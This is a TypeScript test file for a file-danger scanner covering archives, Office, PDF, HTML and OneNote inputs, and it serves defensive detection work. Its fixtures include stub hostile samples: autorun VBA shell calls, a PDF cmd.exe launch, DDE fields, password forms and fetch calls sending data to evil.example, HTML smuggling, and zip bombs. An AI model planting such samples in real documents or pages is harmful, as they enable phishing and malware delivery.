import { gzipSync, zstdCompressSync } from 'node:zlib';
import { words } from '../../src/words/index.ts';
import { inspectFiles } from '../../src/danger/inspect.ts';
import { decompress } from '../../src/danger/macros.ts';
import { iso, macroProject, ole, ooxml, pdf, PROGRAM, rar, relation, SHORTCUT, tar, vbaContainer, wordWithMacro, zip } from '../support/files.ts';

function found(name: string, data: Buffer | string, isCut: boolean = false): readonly string[] {
  const { findings, unopened } = inspectFiles([{ name, data: Buffer.from(data as string), isCut }]);
  return [...findings.map(({ code, value }) => (value === '' ? code : `${code}=${value}`)), ...unopened.map(({ reason }) => `!${reason}`)].sort();
}

const TEXT = Buffer.from('Minutes of the meeting.\n'.repeat(20));

describe('archives', () => {
  test.each<[string, Buffer, readonly string[]]>([
    ['papers.zip', zip([{ name: 'minutes.txt', data: TEXT }, { name: 'a/b.csv', data: '1,2\n' }]), []],
    ['empty.zip', zip([]), []],
    ['a.zip', zip([{ name: 'setup.exe', data: PROGRAM }]), ['program-packed=exe', 'program-packed=pe']],
    ['a.zip', zip([{ name: 'photo.jpg', data: PROGRAM }]), ['program-disguised=jpg', 'program-packed=pe']],
    ['a.zip', zip([{ name: 'invoice.pdf.exe', data: TEXT }]), ['program-disguised=exe', 'program-packed=exe']],
    ['a.zip', zip([{ name: 'invoice.js', data: 'x' }]), ['script-alone=js', 'script-packed=js']],
    ['site.zip', zip(['index.html', 'a.css', 'b.css', 'app.js'].map((name) => ({ name, data: 'hello' }))), ['script-packed=js']],
    ['a.zip', zip([{ name: 'invoice.lnk', data: SHORTCUT }]), ['script-alone=lnk', 'shortcut-packed=lnk', 'shortcut-packed=shortcut']],
    ['a.zip', zip([{ name: 'secret.txt', data: TEXT, encrypted: true }]), ['!encrypted', 'archive-encrypted']],
    ['a.zip', zip([{ name: 'secret.exe', data: TEXT, encrypted: true }]), ['!encrypted', 'archive-encrypted', 'program-packed=exe']],
    ['a.zip', zip([{ name: 'x.txt', data: TEXT, method: 99 }]), ['!encrypted', 'archive-encrypted']],
    ['a.zip', zip([{ name: 'x.txt', data: TEXT, method: 14 }]), ['!archive-not-openable', 'archive-foreign=zip-14']],
    ['a.zip', zip([{ name: '../../x.txt', data: TEXT }]), ['name-trick']],
    ['a.zip', zip([{ name: 'C:\\Windows\\x.txt', data: TEXT }]), ['name-trick']],
    ['a.zip', zip([{ name: 'x\u202Efdp.exe', data: TEXT }]), ['name-trick', 'program-packed=exe']],
    ['a.zip', zip([{ name: 'x.txt', localName: 'x.exe', data: TEXT }]), ['archive-disagrees']],
    ['a.zip', zip([{ name: 'x.exe', data: PROGRAM, unlisted: true }, { name: 'x.txt', data: TEXT }]), ['archive-disagrees', 'program-packed=exe', 'program-packed=pe']],
    ['a.zip', zip([{ name: 'inner.zip', data: zip([{ name: 'x.scr', data: PROGRAM }]) }]), ['archive-nested=zip', 'program-packed=pe', 'program-packed=scr']],
    ['a.zip', zip([{ name: 'report.docx', data: ooxml({ 'word/document.xml': '<w/>' }) }]), []],
    ['a.zip', zip([{ name: 'bomb.bin', data: Buffer.alloc(1000), sizeBytes: 2_000_000_000 }]), ['archive-bomb']],
    ['app.zip', zip([{ name: 'META-INF/MANIFEST.MF', data: 'x' }, { name: 'A.class', data: 'x' }]), ['program=jar']],
    ['patch.tar.gz', gzipSync(tar({ 'src/a.c': TEXT, 'run.sh': '#!/bin/sh\n' })), []],
    ['x.tgz', gzipSync(tar({ 'x.exe': PROGRAM })), ['program-packed=exe', 'program-packed=pe']],
    ['notes.txt.gz', gzipSync(TEXT), []],
    ['x.zst', zstdCompressSync(TEXT), []],
    ['x.bz2', Buffer.from('BZh91AY&SY'), ['!archive-not-openable', 'archive-foreign=bzip2']],
    ['x.rar', rar({ 'notes.txt': TEXT }), []],
    ['x.rar', rar({ 'setup.exe': PROGRAM }), ['program-packed=exe', 'program-packed=pe']],
    ['x.rar', rar({ 'notes.txt': TEXT }, 3), ['!archive-not-openable']],
    ['disc.iso', iso({ 'READ.TXT': TEXT }), ['disk-image']],
    ['disc.iso', iso({ 'DOC.LNK': SHORTCUT }), ['disk-image', 'script-alone=lnk', 'shortcut-packed=lnk', 'shortcut-packed=shortcut']],
  ])('%s %#', (name, data, expected) => expect(found(name, data)).toEqual([...expected].sort()));

  test('a bomb is named and costs no more than its bound', () => {
    const bomb = zip([{ name: 'zeros.pdf', data: Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(80 * 1024 * 1024)]) }]);
    const begun = process.cpuUsage();
    expect(found('bomb.zip', bomb)).toEqual(['!too-large', 'archive-bomb']);
    expect(process.cpuUsage(begun).user / 1000).toBeLessThan(250);
  });

  test('archives in archives, as deep as the bound and deeper', () => {
    let data = zip([{ name: 'x.txt', data: TEXT }]);
    for (let i = 0; i < 9; i++) data = zip([{ name: 'n.zip', data }]);
    expect(found('deep.zip', data)).toEqual(expect.arrayContaining(['!too-deep', 'archive-nested=zip']));
  });

  test('what is cut off is unopened only where it matters', () => {
    expect(found('film.mp4', Buffer.alloc(100), true)).toEqual([]);
    expect(found('a.zip', zip([{ name: 'x.txt', data: TEXT }]), true)).toEqual(['!too-large']);
  });
});

const BENIGN = 'Sub Total()\r\n  Range("A1").Value = 5\r\nEnd Sub\r\n';
const OPENS = 'Sub Document_Open()\r\n  MsgBox "Welcome"\r\nEnd Sub\r\n';
const STARTS = 'Sub AutoOpen()\r\n  CreateObject("WScript.Shell").Run "x"\r\nEnd Sub\r\n';

describe('Office', () => {
  test.each<[string, Buffer, readonly string[]]>([
    ['letter.doc', wordWithMacro(''), []],
    ['letter.doc', wordWithMacro(BENIGN), ['macro']],
    ['letter.doc', wordWithMacro(OPENS), ['macro', 'macro-autorun']],
    ['letter.doc', wordWithMacro(STARTS), ['macro', 'macro-acts=starts', 'macro-autorun']],
    ['sheet.xlsm', ooxml({ 'xl/vbaProject.bin': macroProject(STARTS) }), ['macro', 'macro-acts=starts', 'macro-autorun']],
    ['sheet.xlsx', ooxml({ 'xl/workbook.xml': '<x/>' }), []],
    ['a.docx', ooxml({ 'word/_rels/settings.xml.rels': relation('attachedTemplate', 'https://evil.example/t.dotm') }), ['office-template=attachedTemplate']],
    ['a.docx', ooxml({ 'word/_rels/document.xml.rels': relation('hyperlink', 'https://www.example/') }), []],
    ['a.docx', ooxml({ 'word/_rels/settings.xml.rels': relation('attachedTemplate', 'file:///C:/Templates/Normal.dotm') }), []],
    ['a.docx', ooxml({ 'word/_rels/document.xml.rels': relation('oleObject', 'https://evil.example/x.html!') }), ['office-template=runs']],
    ['a.docx', ooxml({ 'word/document.xml': '<w:instrText>DDE</w:instrText><w:instrText xml:space="preserve">AUTO c:\\\\x "y"</w:instrText>' }), ['office-dde']],
    ['a.docx', ooxml({ 'word/document.xml': '<w:instrText>PAGE</w:instrText>' }), []],
    ['a.docx', ooxml({ 'word/activeX/activeX1.xml': '<x/>' }), ['office-activex']],
    ['a.xlsx', ooxml({ 'xl/macrosheets/sheet1.xml': '<x/>' }), ['macro-sheet']],
    ['a.docx', ooxml({ 'word/embeddings/oleObject1.bin': ole([{ name: '\x01Ole10Native', data: packaged('x.exe', PROGRAM) }]) }), ['office-embeds', 'program-packed=pe']],
    ['a.doc', ole([{ name: 'Equation Native', data: Buffer.from('x') }]), ['office-equation']],
    ['a.xls', ole([{ name: 'Workbook', data: workbook([[0x85, Buffer.from([0, 0, 0, 0, 0, 1, 1, 0, 65])], [0x18, label()]]) }]), ['macro-sheet=auto-open']],
    ['a.xls', ole([{ name: 'Workbook', data: workbook([[0x85, Buffer.from([0, 0, 0, 0, 0, 0, 1, 0, 65])]]) }]), []],
    ['a.xls', ole([{ name: 'Workbook', data: workbook([[0x2f, Buffer.alloc(4)]]) }]), ['!encrypted', 'office-encrypted']],
    ['a.docx', ole([{ name: 'EncryptionInfo', data: Buffer.alloc(8) }, { name: 'EncryptedPackage', data: Buffer.alloc(80) }]), ['!encrypted', 'office-encrypted']],
    ['setup.doc', ole([{ name: 'x', data: Buffer.alloc(9) }], '84100c0000000000c000000000000046'), ['program=msi']],
    ['a.rtf', Buffer.from('{\\rtf1 hello}'), []],
    ['a.doc', Buffer.from(`{\\rtf1{\\object\\objupdate{\\*\\objdata 0105 ${Buffer.from('\x02\0\0\0\x0b\0\0\0Equation.3\0').toString('hex')}}}}`), ['office-equation', 'rtf-object', 'rtf-object=at-once']],
    ['a.doc', Buffer.from(`{\\rtf1{\\*\\objdata ${ole([{ name: '\x01Ole10Native', data: packaged('x.exe', PROGRAM) }]).toString('hex')}}}`), ['office-embeds', 'program-packed=pe', 'rtf-object']],
  ])('%s %#', (name, data, expected) => expect(found(name, data)).toEqual([...expected].sort()));

  test('a module that is packed with copies is read as well', () => {
    // MS-OVBA section 3.2.2.
    const packed = Buffer.from('012FB00023616161626364658266007061676869 6A0138 08616B6C00306D6E6F70067102700410727374757610777879 7A003C'.replaceAll(' ', ''), 'hex');
    expect(decompress(packed, 0, 100).toString('latin1')).toBe('#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa');
    expect(decompress(vbaContainer('x'.repeat(5000)), 0, 4500)).toHaveLength(4500);
  });
});

function packaged(name: string, data: Buffer): Buffer {
  const size = Buffer.alloc(4);
  size.writeUInt32LE(data.length);
  return Buffer.concat([Buffer.from('\0\0\0\0\x02\0'), Buffer.from(`${name}\0C:\\${name}\0`), Buffer.from('\0\0\x03\0'), Buffer.from('\x02\0\0\0t\0'), size, data]);
}

function workbook(records: readonly (readonly [number, Buffer])[]): Buffer {
  return Buffer.concat([...records, [0x0a, Buffer.alloc(0)] as const].flatMap(([type, body]) => {
    const head = Buffer.alloc(4);
    head.writeUInt16LE(type, 0);
    head.writeUInt16LE(body.length, 2);
    return [head, body];
  }));
}

function label(): Buffer {
  const body = Buffer.alloc(16);
  body[0] = 0x20;
  body[3] = 1;
  body[15] = 1;
  return body;
}

describe('PDF', () => {
  test.each<[Buffer, readonly string[]]>([
    [pdf(['<</Type /Catalog /OpenAction [3 0 R /Fit]>>']), []],
    [pdf(['<</Type /Catalog /OpenAction <</S /JavaScript /JS (app.alert(1))>> >>']), ['pdf-opens', 'pdf-script']],
    [pdf(['<</Type /Catalog>>'], ['<</S /JavaScript /JS (x)>>']), ['pdf-script']],
    [pdf(['<</Type /Catalog /OpenAction 5 0 R>>', '<</S /Launch /Win <</F (cmd.exe) /P (/c x)>> >>']), ['pdf-launch=cmd.exe /c x', 'pdf-opens']],
    [pdf(['<</S /#4aavaScr#69pt /#4AS (x)>>']), ['pdf-hidden-names', 'pdf-script']],
    [pdf(['<</A <</S /URI /URI (https://www.example/)>> >>']), ['pdf-link=one']],
    [pdf(['<</EmbeddedFiles 5 0 R>>']), ['pdf-embeds']],
    [Buffer.concat([Buffer.from('%PDF-1.7\n5 0 obj <</Type /EmbeddedFile>>\nstream\n'), PROGRAM, Buffer.from('\nendstream')]), ['pdf-embeds', 'program-packed=pe']],
    [pdf(['<</Type /Catalog>>'], [], '/Encrypt 9 0 R'), ['pdf-encrypted']],
    [Buffer.concat([pdf(['<<>>'], [], '/Encrypt 9 0 R'), Buffer.from('8 0 obj <</Type /ObjStm /Filter /FlateDecode>>\nstream\nnot packed\nendstream')]), ['!encrypted', 'pdf-encrypted']],
    [Buffer.concat([Buffer.from('junk before\n'), pdf(['<</S /SubmitForm>>'])]), ['pdf-form']],
  ])('%#', (data, expected) => expect(found('x.pdf', data)).toEqual([...expected].sort()));
});

const BLOB = Buffer.alloc(3000, 'abc').toString('base64');
const FORM = '<form action="https://evil.example/p.php"><input type=password></form>';

describe('pages', () => {
  test.each<[string, string, readonly string[]]>([
    ['report.html', '<html><h1>Report</h1><a href="https://example.com/">more</a></html>', []],
    ['login.html', `<html>${FORM}</html>`, ['page-form-elsewhere=evil.example', 'page-password']],
    ['login.htm', `<script>document.write(unescape('${escape(FORM).replace(/[^%\w]/g, (c) => `%${c.charCodeAt(0).toString(16)}`)}'))</script>`, ['page-built', 'page-form-elsewhere=evil.example', 'page-password']],
    ['login.htm', `<script>document.write(atob("${Buffer.from(`<html>${FORM}</html>`).toString('base64')}"))</script>`, ['page-built', 'page-form-elsewhere=evil.example', 'page-password']],
    ['go.html', '<meta http-equiv="refresh" content="0; url=https://evil.example/x">', ['page-moves-on=evil.example']],
    ['go.html', '<script>window.location.href = u + "/x"</script>', ['page-moves-on=script']],
    ['send.html', '<input type="password"><script>fetch("https://evil.example/collect", {})</script>', ['page-password', 'page-sends=evil.example']],
    ['file.html', `<script>var b=atob("${BLOB}");var a=document.createElement("a");a.href=URL.createObjectURL(new Blob([b]));a.download="x.zip";a.click()</script>`, ['page-built', 'page-smuggles']],
    ['chart.html', '<html><script src="https://cdn.jsdelivr.net/x.js"></script><script>fetch("https://cdn.jsdelivr.net/data/")</script></html>', []],
    ['drawing.svg', '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>', []],
    ['drawing.svg', '<svg><script>location.href="https://evil.example/"</script></svg>', ['page-moves-on=evil.example', 'svg-script']],
    ['app.hta', '<html><hta:application id=x></html>', ['program=hta']],
  ])('%s %#', (name, data, expected) => expect(found(name, data)).toEqual([...expected].sort()));

  test('in UTF-16 as well', () => expect(found('x.html', Buffer.from(`\uFEFF<html>${FORM}</html>`, 'utf16le'))).toEqual(['page-form-elsewhere=evil.example', 'page-password']));
});

test('a notebook and what lies in it', () => {
  const head = Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex'), mark = Buffer.from('e716e3bd65261145a4c48d4d0b7a9eac', 'hex');
  const size = Buffer.alloc(20);
  const script = Buffer.from('Set x = CreateObject("WScript.Shell")');
  size.writeUInt32LE(script.length);
  expect(found('x.one', Buffer.concat([head, mark, size, script]))).toEqual(['note-embeds=script']);
});

test('what is no file of any sort', () => {
  expect(inspectFiles([]).findings).toEqual([]);
  expect(found('', '')).toEqual([]);
  expect(found('notes.txt', TEXT)).toEqual([]);
});

test.each(['encrypted', 'too-large', 'too-deep', 'archive-not-openable', 'damaged', 'scanner-down'])('%s is said in words', (reason) => {
  for (const language of ['en', 'tr', 'ru', 'de']) expect(words(language, `decision.unopened.${reason}`)).not.toContain('unopened');
});
